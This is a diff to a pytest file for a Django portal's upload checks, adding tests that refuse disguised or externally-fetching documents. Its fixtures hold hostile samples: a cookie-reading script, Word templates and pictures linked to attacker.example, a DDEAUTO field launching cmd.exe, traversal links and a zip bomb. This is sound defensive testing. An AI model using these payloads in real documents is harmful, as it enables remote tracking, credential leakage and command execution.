@@ -2,6 +2,7 @@
 stored through Django's storage API, listed on the overview with their type and size, served as
 attachments that cannot run, and private while their consultation is a draft."""
 
+import html
 import io
 import os
 import subprocess
@@ -10,19 +11,22 @@ import zipfile
 from pathlib import Path
 
 import docx
+import pypdf
 import pytest
 from django.contrib.auth.models import Group, User
 from django.core.files.storage import default_storage
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
-from guidance import supporting
+from guidance import packages, supporting
 from guidance.models import Consultation, Document, SupportingDocument
-from tests.factories import ConsultationFactory
+from tests.factories import ConsultationFactory, pdf
 
 pytestmark = pytest.mark.django_db
 ROOT = Path(__file__).resolve().parents[1]
-PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n" + b" " * 1_260_000 + b"\n%%EOF\n"
+
+
+PDF = pdf(padding=1_260_000)
 
 
 def word():
@@ -43,9 +47,19 @@ def zipped(members, first=None):
     return data.getvalue()
 
 
-ODT = zipped(
-    {"content.xml": "<office:document-content/>"}, first=("mimetype", "application/vnd.oasis.opendocument.text")
-)
+OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
+
+
+def odt(body=""):
+    content = (
+        f'<office:document-content xmlns:office="{OFFICE}" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
+        ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
+        f"<office:body><office:text>{body}</office:text></office:body></office:document-content>"
+    )
+    return zipped({"content.xml": content}, first=("mimetype", "application/vnd.oasis.opendocument.text"))
+
+
+ODT = odt("<text:p>An easy-read version.</text:p>")
 DOCM = zipped(
     {
         "[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
@@ -80,7 +94,7 @@ REFUSED = {
 @pytest.mark.parametrize("kind", TAKEN)
 def test_each_type_taken_is_recognised_by_its_content_whatever_its_name(kind):
     data, file_type, _ = TAKEN[kind]
-    assert supporting.read_head_and_tail(data) == file_type
+    assert supporting.file_type(data) == file_type
     upload = SimpleUploadedFile("misleading-name.exe", data)
     assert supporting.check_upload(upload) == file_type
 
@@ -244,3 +258,144 @@ def test_a_public_form_still_takes_no_file_and_a_huge_file_is_stopped_as_it_arri
     assert page.status_code == 400
     assert "too large for the portal to take" in page.content.decode()
     assert not SupportingDocument.objects.exists()
+
+
+# A file is what it is from its very first byte, and a document offered to the public may not make
+# a word processor fetch anything from elsewhere when it is opened.
+
+HTML_WITH_PDF_IN_A_COMMENT = b"<!-- %PDF-1.4 -->\n<html><body><script>alert(document.cookie)</script></body></html>"
+
+
+def encrypted_pdf(password):
+    writer = pypdf.PdfWriter()
+    writer.add_blank_page(200, 200)
+    writer.encrypt(user_password=password, owner_password="owner", algorithm="RC4-128")
+    data = io.BytesIO()
+    writer.write(data)
+    return data.getvalue()
+
+
+def word_with(rels=b"", body=b""):
+    """The tests' Word document with relationships added to its settings part, and XML added to
+    its body."""
+    members = {}
+    with zipfile.ZipFile(io.BytesIO(word())) as archive:
+        for name in archive.namelist():
+            members[name] = archive.read(name)
+    members["word/_rels/settings.xml.rels"] = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        + rels
+        + b"</Relationships>"
+    )
+    members["word/document.xml"] = members["word/document.xml"].replace(b"</w:body>", body + b"</w:body>")
+    return zipped(members)
+
+
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+TEMPLATE_ELSEWHERE = (
+    f'<Relationship Id="rId9" Type="{RELATIONSHIPS}/attachedTemplate" Target="http://attacker.example/t.dotx"'
+    ' TargetMode="External"/>'
+).encode()
+PICTURE_ELSEWHERE = (
+    f'<Relationship Id="rId8" Type="{RELATIONSHIPS}/image" Target="\\\\attacker.example\\share\\pixel.png"'
+    ' TargetMode="External"/>'
+).encode()
+HYPERLINK = (
+    f'<Relationship Id="rId7" Type="{RELATIONSHIPS}/hyperlink" Target="https://www.example.org/guidance"'
+    ' TargetMode="External"/>'
+).encode()
+
+
+def field(instruction):
+    return (
+        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
+        + instruction
+        + b' </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
+        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+REFUSED_BY_CONTENT = {
+    "HTML with %PDF- in a comment": (HTML_WITH_PDF_IN_A_COMMENT, "a PDF's header (%PDF-) but not at its very start"),
+    "HTML starting with a comment": (b"<!-- a page -->\n<script>alert(1)</script>", "This file is not a PDF"),
+    "a PDF's header after other bytes": (b"Hello\n" + pdf(), "has a PDF's header (%PDF-) but not at its very start"),
+    "a PDF header without a version": (b"%PDF-\n" + pdf()[9:], "not with a PDF version (such as %PDF-1.7)"),
+    "a file dressed as a PDF": (
+        b"%PDF-1.7\n<html><script>alert(1)</script></html>\nstartxref\n9\n%%EOF\n",
+        "This PDF is damaged: its structure cannot be read",
+    ),
+    "a PDF that needs a password to open": (encrypted_pdf("secret"), "protected with a password"),
+    "a Word document with its template elsewhere": (
+        word_with(rels=TEMPLATE_ELSEWHERE),
+        "fetch something from elsewhere when it is opened (an attached template at http://attacker.example/t.dotx)",
+    ),
+    "a Word document with a linked picture": (word_with(rels=PICTURE_ELSEWHERE), "(a linked picture at \\\\attacker"),
+    "a Word document with an INCLUDEPICTURE field": (
+        word_with(body=field(b'INCLUDEPICTURE "http://attacker.example/pixel.png" \\d')),
+        "(a INCLUDEPICTURE field)",
+    ),
+    "a Word document with a DDEAUTO field": (
+        word_with(body=field(b'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')),
+        "(a DDEAUTO field)",
+    ),
+    "an OpenDocument text with a picture elsewhere": (
+        odt('<draw:frame><draw:image xlink:href="https://attacker.example/pixel.png"/></draw:frame>'),
+        "(a link to https://attacker.example/pixel.png)",
+    ),
+    "an OpenDocument text with a file beside it": (
+        odt('<draw:frame><draw:image xlink:href="../../secret.png"/></draw:frame>'),
+        "(a link to ../../secret.png)",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", REFUSED_BY_CONTENT)
+def test_a_file_that_is_not_what_it_claims_or_fetches_from_elsewhere_is_refused_and_not_stored(case, client):
+    data, message = REFUSED_BY_CONTENT[case]
+    client.force_login(manager())
+    consultation = ConsultationFactory()
+    page = client.post(
+        reverse("admin:guidance_consultation_documents", args=[consultation.pk]),
+        {"title": "Full draft", "file": SimpleUploadedFile("draft.pdf", data)},
+    )
+    assert page.status_code == 400
+    assert message in html.unescape(page.content.decode())
+    assert not SupportingDocument.objects.exists()
+
+
+TAKEN_WITH_LINKS = {
+    "a Word document with a hyperlink": (word_with(rels=HYPERLINK), "docx"),
+    "a Word document with a HYPERLINK field": (word_with(body=field(b'HYPERLINK "https://example.org/"')), "docx"),
+    "an OpenDocument text with a hyperlink": (
+        odt('<text:p><text:a xlink:href="https://www.example.org/guidance">The guidance</text:a></text:p>'),
+        "odt",
+    ),
+    "an OpenDocument text with its own picture": (
+        odt('<draw:frame><draw:image xlink:href="Pictures/chart.png"/></draw:frame>'),
+        "odt",
+    ),
+    "a PDF with an empty password to open it": (encrypted_pdf(""), "pdf"),
+    "a PDF 2.0": (pdf(header=b"%PDF-2.0\r\n"), "pdf"),
+}
+
+
+@pytest.mark.parametrize("case", TAKEN_WITH_LINKS)
+def test_hyperlinks_pictures_inside_the_file_and_an_openable_pdf_are_taken(case):
+    data, kind = TAKEN_WITH_LINKS[case]
+    assert supporting.file_type(data) == kind
+
+
+def test_a_pdf_or_word_document_is_read_in_another_process_than_the_web_servers(monkeypatch):
+    def read_here(*args, **kwargs):
+        raise AssertionError("pypdf ran in the web process")
+
+    monkeypatch.setattr(pypdf, "PdfReader", read_here)
+    monkeypatch.setattr(packages, "scan", read_here)
+    assert supporting.file_type(PDF) == "pdf"
+    assert supporting.file_type(word()) == "docx"
+
+
+def test_a_zip_bomb_named_docx_is_refused_by_its_declared_ratio():
+    bomb = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:p/>" * 2_000_000})
+    with pytest.raises(supporting.FileRefused, match="unpacks to .* times its size; the most the portal reads is 100"):
+        supporting.file_type(bomb)
